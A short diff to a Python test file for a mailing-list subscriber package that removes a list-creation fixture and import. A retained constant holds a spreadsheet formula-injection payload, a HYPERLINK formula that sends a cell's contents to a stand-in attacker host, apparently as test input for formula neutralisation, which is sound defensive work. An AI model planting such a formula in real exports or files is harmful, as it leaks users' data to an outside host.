@@ -26,18 +26,10 @@ from subscribers.errors import InvalidAddress, SubscribersError
 from subscribers.formulas import neutralise, unformula
 from subscribers.importing import _physical_lines, import_csv
 from subscribers.lifecycle import add_subscriber, get_subscriber, subscribe_pending
-from subscribers.lists import create_list
 from subscribers.models import MailingList, Subscriber
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
-
-
-@pytest.fixture
-def weekly(session: Session) -> MailingList:
-    mlist = create_list(session, "weekly", "Weekly Briefing")
-    session.commit()
-    return mlist
 
 
 def cli(*args: str) -> tuple[int, str]:
